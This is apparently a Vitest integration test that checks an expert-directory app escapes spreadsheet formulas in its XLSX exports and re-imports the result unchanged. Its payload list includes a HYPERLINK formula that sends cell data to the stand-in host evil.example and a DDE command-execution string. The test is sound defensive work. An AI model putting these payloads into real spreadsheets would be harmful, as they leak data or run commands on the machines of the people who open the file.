// Exports through the real app over HTTP: formulas neutralised in every cell, the background export job (progress,
// a signed download link for its owner only, expiry and the sweep), and the synchronous export's row cap.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readXlsxRows } from '@app/platform';
import { SearchIndexService } from '@app/core';
import { startTestApp, type TestApp } from '../support/test-server.js';
import { waitFor } from '../support/processes.js';

let t: TestApp;
let admin: string;

const UPSERT = `mutation($i: ExpertInput!) { upsertExpert(input: $i) { id } }`;
const expert = (name: string, specialties: string, extra: object = {}) => ({
  name,
  employer: '上海市农业科学院',
  title: '研究员',
  titleLevel: 'SENIOR',
  fields: ['AGRICULTURE'],
  specialties,
  regionCode: '310116',
  ...extra,
});

async function synced() {
  const index = t.app.get(SearchIndexService);
  expect(await waitFor(async () => (await index.pendingCount()) === 0, 30_000)).toBe(true);
}

beforeAll(async () => {
  t = await startTestApp();
  admin = await t.login('admin');
});
afterAll(() => t?.close());

describe('formulas in exported cells', () => {
  it('neutralises text cells that would become formulas; the export reads back as text', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '＝1+1', '@SUM(A1:A9)', '-2+3', '+86 专家', '\t=1+1'];
    for (const [i, p] of payloads.entries()) {
      const res = await t.gql(UPSERT, { i: expert(`公式专家${i}`, p, { employer: i === 0 ? '=cmd|" /C calc"!A0' : '上海市农业科学院' }) }, admin);
      expect(res.errors).toBeUndefined();
    }
    await synced();
    const res = await t.gql(`{ exportExperts(query: "公式专家") { contentBase64 } }`, {}, admin);
    expect(res.errors).toBeUndefined();
    const rows = await readXlsxRows(Buffer.from(res.data.exportExperts.contentBase64, 'base64'));
    const byName = new Map(rows.map((r) => [r[0], r]));
    for (const [i, p] of payloads.entries()) {
      const row = byName.get(`公式专家${i}`)!;
      expect(row, `公式专家${i}`).toBeDefined();
      expect(row[6]).toBe(`'${p.trim()}`); // the service trims free text on input
    }
    expect(byName.get('公式专家0')![2]).toBe(`'=cmd|" /C calc"!A0`);
    // Nothing in the file is a formula cell.
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(res.data.exportExperts.contentBase64, 'base64') as unknown as ArrayBuffer);
    wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));

    // The export stays re-importable: the import reads the quoted cells back as they were, so nothing changes.
    const start = await t.gql(`mutation($f: String!, $c: String!) { startExpertImport(fileName: $f, contentBase64: $c) { id } }`, { f: '导出.xlsx', c: res.data.exportExperts.contentBase64 }, admin);
    expect(start.errors).toBeUndefined();
    let job: any;
    await waitFor(async () => {
      job = (await t.gql(`query($id: ID!) { importJob(id: $id) { status report { created updated unchanged rejected { row reason } } } }`, { id: start.data.startExpertImport.id }, admin)).data.importJob;
      return job.status === 'SUCCEEDED' || job.status === 'FAILED';
    }, 30_000, 200);
    expect(job.report).toEqual({ created: 0, updated: 0, unchanged: payloads.length, rejected: [] });
  });
});
